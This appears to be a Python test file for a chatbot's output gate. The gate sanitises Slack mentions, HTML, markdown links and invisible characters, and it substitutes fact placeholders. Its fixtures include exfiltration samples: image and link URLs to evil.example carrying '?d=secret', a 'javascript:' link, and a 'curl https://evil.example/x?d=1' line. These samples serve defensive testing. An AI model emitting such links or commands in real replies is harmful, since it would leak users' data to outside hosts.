"""The gate: what a model may say, and what becomes of the rest, however the text is cut into pieces."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.conversation.clean import Links, visible
from bot.conversation.gate import Gate

FACTS = {"f1": "18.7%", "f2": "exhausted"}
LINKS = Links(hosts=frozenset({"github.com"}), urls=frozenset({"https://grafana.acme.example/d/1?from=now"}))


def through(text: str, *, size: int | None = None, links: Links = LINKS) -> str:
    gate = Gate(FACTS.get, links)
    step = size or max(len(text), 1)
    out = "".join(gate.feed(text[begin : begin + step]) for begin in range(0, len(text), step))
    return out + gate.close()


CASES = {
    "a fact takes its placeholder": ("{{f1}} is left of checkout, {{ f2 }}.", "18.7% is left of checkout, exhausted."),
    "an unknown fact is no figure": ("{{f99}} and {{f1 }}", "no figure and 18.7%"),
    "a placeholder that is none is no figure": ("{{17.3 %}} left", "no figure left"),
    "single braces stay": ("a {dict} and {", "a {dict} and {"),
    "half a placeholder stays what it is": ("wait {{f1", "wait {{f1"),
    "a mention is not made of what is left": ("<<!channel>> <<@U1>>", "< @channel> < @U1>"),
    "line breaks of all kinds": ("a\r\nb\rc\nd", "a\nb\nc\nd"),
    "everyone is not called": ("<!channel> and <!here|here>: look", "@channel and @here: look"),
    "nobody is called": ("ask <@U123> or <@U124|dana>", "ask @U123 or @dana"),
    "no group is called": ("<!subteam^S1|@oncall> <!subteam^S2>", "@oncall @subteam"),
    "a channel is only named": ("in <#C1|general>", "in #general"),
    "a comparison stays": ("if a < b and x <5 then y > 3", "if a < b and x <5 then y > 3"),
    "a type stays": ("`List<String>` and Map<K,V>", "`List<String>` and Map<K,V>"),
    "a line break in markup keeps words apart": ("one<br>two<BR />three", "one two three"),
    "markup vanishes": ('<b>bold</b> <img src="https://evil.example/x.png"> <!-- psst -->end', "bold  end"),
    "a picture becomes its words": ("![a chart](https://evil.example/p.png?d=secret)", "a chart"),
    "a foreign link is told, not linked": (
        "[click here](https://evil.example/a?d=secret#x)",
        "click here (`evil.example/a`)",
    ),
    "a foreign URL is told, not linked": ("see https://evil.example/a?d=secret, ok", "see `evil.example/a`, ok"),
    "a Slack link is told, not linked": ("<https://evil.example/a|the docs>", "the docs (`evil.example/a`)"),
    "an allowed link stays": ("[code](https://github.com/acme/x)", "[code](https://github.com/acme/x)"),
    "an allowed URL stays": ("at https://github.com/acme/x.", "at https://github.com/acme/x."),
    "an allowed host with a query is told": ("[c](https://github.com/a?q=secret)", "c (`github.com/a`)"),
    "an allowed host over http is told": ("http://github.com/a", "`github.com/a`"),
    "a host that only ends alike is told": ("https://evilgithub.com/a", "`evilgithub.com/a`"),
    "a user before the host hides nothing": ("https://github.com@evil.example/a", "`evil.example/a`"),
    "an exact URL stays": (
        "[board](https://grafana.acme.example/d/1?from=now)",
        "[board](https://grafana.acme.example/d/1?from=now)",
    ),
    "a label that looks like a host shows the target": (
        "[bank.example](https://github.com/a)",
        "https://github.com/a",
    ),
    "a reference link leads nowhere": ("[text][1]\n\n[1]: https://evil.example/a", "text\n\n1 - `evil.example/a`"),
    "a script is no link": ("[x](javascript:alert`1`)", "x (`alert1`)"),
    "a nested link leads nowhere": (
        "[![a](https://evil.example/i.png)](https://evil.example)",
        "[a](`evil.example`)",
    ),
    "a link in code is text": ("`curl https://evil.example/x?d=1`", "`curl evil.example/x`"),
    "indexing in code stays": ("`rows[0][1]`", "`rows[0][1]`"),
    "a tick box stays": ("- [ ] todo\n- [x] done", "- [ ] todo\n- [x] done"),
    "hidden characters vanish": ("za\u200bp\u2060 \U000e0041\u202eevil\ufe0f", "zap evil"),
    "a fact inside a link's label is shown": ("[{{f1}}](https://github.com/a)", "[18.7%](https://github.com/a)"),
    "a table stays": ("| a | b |\n|---|---|\n| {{f1}} | x |", "| a | b |\n|---|---|\n| 18.7% | x |"),
    "letters of all scripts stay": ("Größe 数字 здесь é", "Größe 数字 здесь é"),
    "an escaped bracket hides no link": (r"\[x](https://evil.example/a)", r"\x (`evil.example/a`)"),
    "an escaped backtick opens no code": (r"\`https://evil.example/a`", r"\``evil.example/a``"),
    "words with a colon stay": ("data: fine, file: too", "data: fine, file: too"),
}


@pytest.mark.parametrize("size", [None, 1, 2, 3, 5, 11])
@pytest.mark.parametrize(("text", "out"), CASES.values(), ids=CASES.keys())
def test_on_its_way_out(text: str, out: str, size: int | None) -> None:
    assert through(text, size=size) == out


def test_nothing_half_gets_out_while_it_streams() -> None:
    gate = Gate(FACTS.get, LINKS)
    seen = [
        gate.feed(piece) for piece in ("left: {", "{f", "1", "}} of ", "[a", "](https://ev", "il.example) 1", "7 x")
    ]
    assert seen == ["left: ", "", "", "18.7% of ", "", "", "a (`evil.example`) ", "17 "]
    assert gate.close() == "x"


def test_its_own_words_leave_the_facts_out() -> None:
    gate = Gate(FACTS.get, LINKS)
    gate.feed("It is {{f1}} of 42.")
    gate.close()
    assert gate.own == "It is   of 42."


PIECES = st.sampled_from(
    ["{{f1}}", "{{", "}}", "<!channel>", "<@U1>", "<", ">", "[", "](", ")", "](https://evil.example/a?b=c)", "!", "`",
     "```", "https://evil.example/x", "http://", "\\", "\n", "\n\n", " ", "word", "17", "|", "\u200b", "www.evil.ex"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=25).map("".join), st.integers(1, 9))
def test_how_a_text_is_cut_into_pieces_changes_nothing(text: str, size: int) -> None:
    assert through(text, size=size) == through(text)


@given(st.lists(PIECES, max_size=25).map("".join))
def test_nothing_dangerous_ever_gets_out(text: str) -> None:
    out = through(text)
    assert not re.search(r"<[@#!][^<>\n]+>", out)
    assert "://" not in re.sub(r"https?://(?=$|[\s\]\[<>{}`\\!|()\"])", "", out)
    assert all(unicodedata.category(char) not in ("Cf", "Cc") or char == "\n" for char in out)


@given(st.text(max_size=80), st.integers(1, 9))
def test_any_text_at_all_passes_without_an_error(text: str, size: int) -> None:
    assert through(text, size=size) == through(text)


@given(st.text(alphabet=st.characters(categories=("L", "N")), max_size=60))
def test_plain_words_pass_unchanged(text: str) -> None:
    assert through(text) == visible(text)


@pytest.mark.parametrize("piece", ["a", "a.", "1e", "twenty-", "<", "[", "`", "(", "{{f1", "http://"])
@pytest.mark.timeout(8)
def test_hostile_text_takes_no_longer_than_its_length(piece: str) -> None:
    assert through(piece * (40_000 // len(piece)), size=None)
